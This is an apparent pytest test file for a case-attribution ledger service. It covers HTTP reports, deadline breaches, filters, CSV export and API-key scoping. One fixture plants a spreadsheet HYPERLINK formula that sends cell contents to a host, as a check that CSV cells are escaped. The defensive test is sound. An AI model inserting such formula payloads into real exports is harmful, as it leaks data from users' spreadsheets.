"""Attribution through the ledger: scenarios over HTTP, as-of reads, reports and deadlines."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from domain.evaluator import evaluate, verdicts_as_json
from domain.settings import Settings
from domain.validation import Draft
from projections.attribution import (
    CaseHistories,
    ReportFilter,
    attribution_report,
    monthly_counts,
)
from projections.runtime import Runtime
from projections.writer import AppendCommand
from scripts.cli import main as casetrail
from scripts.scenarios import check_expectations, load_scenario, read_scenarios
from tests.conftest import event, note, opened
from tests.test_tamper import flip_one_byte, use_settings

SCENARIOS = read_scenarios()


@pytest.fixture
def loaded(runtime: Runtime) -> Runtime:
    for scenario in SCENARIOS:
        load_scenario(runtime, scenario)
    runtime.settle(timeout=30)
    return runtime


@pytest.mark.parametrize("scenario", SCENARIOS, ids=[s.id for s in SCENARIOS])
def test_every_scenario_holds_over_http(
    runtime: Runtime, client: TestClient, scenario: Any
) -> None:
    load_scenario(runtime, scenario)
    verdicts = {}
    for case_id in scenario.cases:
        response = client.get(f"/v1/cases/{case_id}/attribution")
        assert response.status_code == 200
        body = response.json()
        assert body["policy"]["id"] == scenario.data["policy"]
        assert len(body["policy"]["sha256"]) == 64
        verdicts[case_id] = body["verdicts"]

    failures = [o.line() for o in check_expectations(scenario, verdicts) if not o.passed]

    assert failures == []


def test_attribution_is_the_same_byte_for_byte_on_every_read(
    runtime: Runtime, client: TestClient
) -> None:
    load_scenario(runtime, SCENARIOS[0])
    case_id = next(iter(SCENARIOS[0].cases))
    as_of = "2030-01-01T00:00:00Z"

    first = client.get(f"/v1/cases/{case_id}/attribution?as_of={as_of}").content
    second = client.get(f"/v1/cases/{case_id}/attribution?as_of={as_of}").content

    assert first == second


def test_as_of_before_the_mandate_shows_the_identity_check_pending(
    runtime: Runtime, client: TestClient
) -> None:
    d02 = next(s for s in SCENARIOS if s.id == "D-02")
    load_scenario(runtime, d02)
    records = client.get("/v1/cases/d02-sale/events").json()["events"]
    mandate = next(r for r in records if r["type"] == "mandate.signed")
    before = records[mandate["seq"] - 2]["recorded_at"]

    then = client.get(f"/v1/cases/d02-sale/attribution?as_of={before}").json()
    now = client.get("/v1/cases/d02-sale/attribution").json()

    def status(body: dict[str, Any]) -> set[str]:
        return {v["status"] for v in body["verdicts"] if v["obligation"] == "CN-INT-01"}

    assert status(then) == {"pending"}
    assert "breached" in status(now)
    assert then["as_of"] < now["as_of"]


def test_a_complaint_left_unanswered_turns_into_a_breach_when_its_deadline_passes(
    runtime: Runtime, client: TestClient
) -> None:
    skew = {"ahead": timedelta(0)}
    runtime.attribution.clock = lambda: datetime.now(UTC) + skew["ahead"]
    received = (datetime.now(UTC) - timedelta(hours=1)).isoformat(timespec="seconds")
    client.post(
        "/v1/cases/lease-9/events",
        json={
            "events": [
                opened("lease"),
                event(
                    "complaint.received",
                    {
                        "complaint_id": "cmp-9",
                        "party_id": "p-9",
                        "channel": "phone",
                        "summary": "deposit not returned",
                    },
                    occurred_at=received,
                    actor={"id": "mgr-1", "role": "branch_manager", "agency": "agency-a"},
                ),
            ]
        },
    )
    runtime.settle()

    def acknowledgement() -> str:
        report = client.get("/v1/reports/attribution?agency=agency-a").json()
        breached = [
            b
            for b in report["breaches"]
            if b["case_id"] == "lease-9" and b["obligation"] == "CN-CMP-01"
        ]
        return "breached" if breached else "not breached"

    assert acknowledgement() == "not breached"
    skew["ahead"] = timedelta(hours=30)  # no new event: only time passes
    runtime.attribution.after_step(0)
    assert acknowledgement() == "breached"


def test_report_counts_and_breaches_by_agency_and_agent(
    loaded: Runtime, client: TestClient
) -> None:
    report = client.get("/v1/reports/attribution").json()

    agencies = {agency["agency"]: agency for agency in report["agencies"]}
    assert {"agency-a", "agency-k"} <= set(agencies)
    agent_k1 = next(a for a in agencies["agency-k"]["agents"] if a["agent"] == "agent-k1")
    fnd = next(c for c in agent_k1["counts"] if c["obligation"] == "CN-FND-02")
    assert fnd["breached"] >= 1
    d09 = [
        b
        for b in report["breaches"]
        if b["case_id"] == "d09-sale" and b["obligation"] == "CN-FND-02"
    ]
    assert d09 and d09[0]["supervisor"] == "mgr-k2" and d09[0]["evidence"]
    assert report["policy"]["id"] == "cn-baseline"


def test_report_filters(loaded: Runtime, client: TestClient) -> None:
    everything = client.get("/v1/reports/attribution").json()["breaches"]
    only_k = client.get("/v1/reports/attribution?agency=agency-k").json()["breaches"]
    only_e3 = client.get("/v1/reports/attribution?agent=agent-e3").json()["breaches"]
    critical = client.get("/v1/reports/attribution?severity=critical").json()["breaches"]
    early = client.get("/v1/reports/attribution?to=2012-01-01").json()["breaches"]

    assert {b["case_id"] for b in only_k} == {"d09-sale"}
    assert {b["performer"] for b in only_e3} == {"agent-e3"}
    assert {b["severity"] for b in critical} == {"critical"}
    assert early and all((b["due"] or b["settled_at"]) < "2012" for b in early)
    assert len(everything) > len(only_k)
    assert client.get("/v1/reports/attribution?from=2020-01-01&to=2019-01-01").status_code == 400
    assert client.get("/v1/reports/attribution?status=pending").status_code == 400


def test_report_as_csv(loaded: Runtime, client: TestClient) -> None:
    counts = client.get("/v1/reports/attribution?format=csv")
    breaches = client.get("/v1/reports/attribution?format=csv&part=breaches")

    assert counts.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(counts.text)))
    assert {"agency", "agent", "obligation", "severity", "met", "breached"} <= set(rows[0])
    breach_rows = list(csv.DictReader(io.StringIO(breaches.text)))
    assert any(r["case_id"] == "d13-sale" and r["performer"] == "agent-e3" for r in breach_rows)


LEAK = '=HYPERLINK("http://127.0.0.1:1/?leak="&A2,"open")'


@pytest.fixture
def formula_performer(runtime: Runtime) -> Runtime:
    """D-02 with its agent's id replaced by a formula, as a ledger may hold from before ids
    had a rule: appended straight to the writer, past the API's validation."""
    d02 = next(s for s in SCENARIOS if s.id == "D-02")
    events = json.loads(json.dumps(d02.cases["d02-sale"]).replace('"agent-a1"', json.dumps(LEAK)))
    for body in events:
        draft = Draft(body["type"], 1, body["occurred_at"], body["actor"], body["payload"], [])
        runtime.append(AppendCommand("d02-leak", [draft], recorded_by="legacy-import"))
    runtime.settle(timeout=30)
    return runtime


def test_no_csv_report_cell_can_run_as_a_formula(
    settings: Settings,
    formula_performer: Runtime,
    client: TestClient,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    use_settings(monkeypatch, settings)
    breaches = client.get("/v1/reports/attribution?format=csv&part=breaches").text
    counts = client.get("/v1/reports/attribution?format=csv").text
    assert casetrail(["report", "--format", "csv", "--part", "breaches"]) == 0
    printed = capsys.readouterr().out

    assert "'" + LEAK in {row["performer"] for row in csv.DictReader(io.StringIO(breaches))}
    assert "'" + LEAK in {row["agent"] for row in csv.DictReader(io.StringIO(counts))}
    assert printed == breaches
    for text in (breaches, counts):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_an_agency_key_reports_on_its_own_agency_only(loaded: Runtime, client: TestClient) -> None:
    token, _ = loaded.api_keys.create("agent", agency="agency-k")
    headers = {"Authorization": f"Bearer {token}"}

    own = client.get("/v1/reports/attribution", headers=headers).json()
    other = client.get("/v1/reports/attribution?agency=agency-a", headers=headers)

    assert {agency["agency"] for agency in own["agencies"]} == {"agency-k"}
    assert other.status_code == 400


def test_the_report_from_a_rebuilt_view_equals_direct_evaluation(
    loaded: Runtime, client: TestClient
) -> None:
    moment = datetime.now(UTC)
    loaded.attribution.clock = lambda: moment
    loaded.followers["attribution"].stop()
    loaded.attribution.reset()
    loaded.followers["attribution"].catch_up()

    rebuilt = attribution_report(loaded.ledger, loaded.policy, ReportFilter(status="breached"))
    direct = []
    for case_id in loaded.all_case_ids():
        records = [json.loads(state) for _, state in loaded.iter_records(case_id)]
        direct += [
            (case_id, v["obligation"], v["rule"], v["performer"])
            for v in verdicts_as_json(evaluate(records, loaded.policy, moment))
            if v["status"] == "breached"
        ]

    from_view = sorted(
        (b["case_id"], b["obligation"], None, b["performer"]) for b in rebuilt["breaches"]
    )
    assert sorted((c, o, None, p) for c, o, _, p in direct) == from_view


def test_policy_can_be_chosen_per_request(runtime: Runtime, client: TestClient) -> None:
    d15 = next(s for s in SCENARIOS if s.id == "D-15")
    load_scenario(runtime, d15)

    body = client.get("/v1/cases/d15-sale/attribution?policy=uk-overlay").json()

    assert body["policy"]["id"] == "uk-overlay"
    assert any(
        v["obligation"] == "UK-CMP-01" and v["status"] == "breached" for v in body["verdicts"]
    )
    assert client.get("/v1/cases/d15-sale/attribution?policy=nope").status_code == 400
    listed = client.get("/v1/policies").json()["policies"]
    assert {p["id"] for p in listed} >= {"cn-baseline", "uk-overlay"}
    assert next(p for p in listed if p["id"] == "cn-baseline")["active"] is True


def test_casetrail_scenario_passes_and_fails_as_the_expectations_do(
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    use_settings(monkeypatch, settings)
    d02 = next(s for s in SCENARIOS if s.id == "D-02").path
    wrong = json.loads(d02.read_text())
    wrong["expect"][0]["performer"] = "someone-else"
    wrong_file = tmp_path / "wrong.json"
    wrong_file.write_text(json.dumps(wrong))

    assert casetrail(["scenario", str(d02)]) == 0
    assert "FAIL" not in capsys.readouterr().out
    assert casetrail(["scenario", str(wrong_file)]) == 1
    assert "FAIL D-02 d02-sale: obligation=CN-INT-01" in capsys.readouterr().out


def test_casetrail_report_prints_the_same_report(
    settings: Settings,
    loaded: Runtime,
    client: TestClient,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    use_settings(monkeypatch, settings)

    assert casetrail(["report", "--agency", "agency-k", "--status", "breached"]) == 0

    printed = json.loads(capsys.readouterr().out)
    assert {b["case_id"] for b in printed["breaches"]} == {"d09-sale"}


def test_the_monthly_counts_always_equal_a_fresh_count_of_the_verdicts(
    loaded: Runtime, client: TestClient
) -> None:
    """The desk's reports read running monthly tallies; they must never drift from the
    verdicts, through appends and deadline re-evaluation."""

    def fresh() -> list[dict[str, Any]]:
        return attribution_report(loaded.ledger, loaded.policy, ReportFilter())["agencies"]

    assert monthly_counts(loaded.ledger) == fresh()
    first = monthly_counts(loaded.ledger, agency="agency-a", first_month="2009-11")
    assert first and all(agency["agency"] == "agency-a" for agency in first)

    appended = client.post(
        "/v1/cases/d02-sale/events",
        json=event(
            "identity.verified",
            {
                "party_id": "d02-party-1",
                "doc_type": "id-card",
                "method": "in-person",
                "result": "pass",
            },
            occurred_at="2011-09-06T10:00:00+08:00",
        ),
    )
    assert appended.status_code == 201, appended.text
    loaded.settle(timeout=10)
    loaded.attribution.after_step(0)
    assert monthly_counts(loaded.ledger) == fresh()


def test_case_histories_read_only_what_is_new_and_stay_within_their_bound(
    runtime: Runtime,
) -> None:
    def append(case_id: str, *events: dict[str, Any]) -> None:
        drafts = [runtime.validator.event(e, f"/events/{i}") for i, e in enumerate(events)]
        runtime.append(AppendCommand(case_id=case_id, events=drafts, recorded_by="test"))

    def stored(case_id: str) -> list[Any]:
        return [json.loads(state) for _, state in runtime.iter_records(case_id)]

    histories = CaseHistories(runtime.ledger, max_events=6)
    append("hist-1", opened(), note("one"))
    assert histories.read("hist-1") == (stored("hist-1"), None)

    append("hist-1", note("two"), note("three"))
    records, fault = histories.read("hist-1")
    assert fault is None and records == stored("hist-1") and len(records) == 4

    # A second case pushes the held records past the bound: the older case is dropped,
    # and read again in full when it is next wanted.
    append("hist-2", opened(), note("a"), note("b"))
    assert histories.read("hist-2") == (stored("hist-2"), None)
    assert list(histories._cases) == ["hist-2"]
    assert histories.read("hist-1") == (stored("hist-1"), None)


def test_case_histories_stop_at_a_record_that_does_not_verify(runtime: Runtime) -> None:
    drafts = [runtime.validator.event(e, "/e") for e in (opened(), note(), note())]
    runtime.append(AppendCommand(case_id="hist-bad", events=drafts, recorded_by="test"))
    good = [json.loads(state) for _, state in runtime.iter_records("hist-bad")]
    flip_one_byte(runtime, "hist-bad", seq=2)

    records, fault = CaseHistories(runtime.ledger).read("hist-bad")

    assert records == good[:1]
    assert fault is not None and fault.seq == 2


def test_verdicts_are_judged_again_when_the_evaluator_changes(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Runtime(settings) as runtime:
        drafts = [runtime.validator.event(e, "/e") for e in (opened(), note())]
        runtime.append(AppendCommand(case_id="judged-1", events=drafts, recorded_by="test"))
        assert runtime.settle()
        runtime.ledger.db.execute_script(["DELETE FROM verdicts"])  # a stale judgement

    monkeypatch.setattr("projections.attribution.EVALUATOR_VERSION", 999)
    with Runtime(settings) as runtime:
        assert runtime.settle()
        stored = runtime.ledger.db.query_one("SELECT sha256 FROM attribution_policy")
        verdicts = runtime.ledger.db.query("SELECT obligation FROM verdicts")

    assert stored is not None and str(stored["sha256"]).endswith(" evaluator 999")
    assert verdicts, "the case was judged again under the new evaluator"
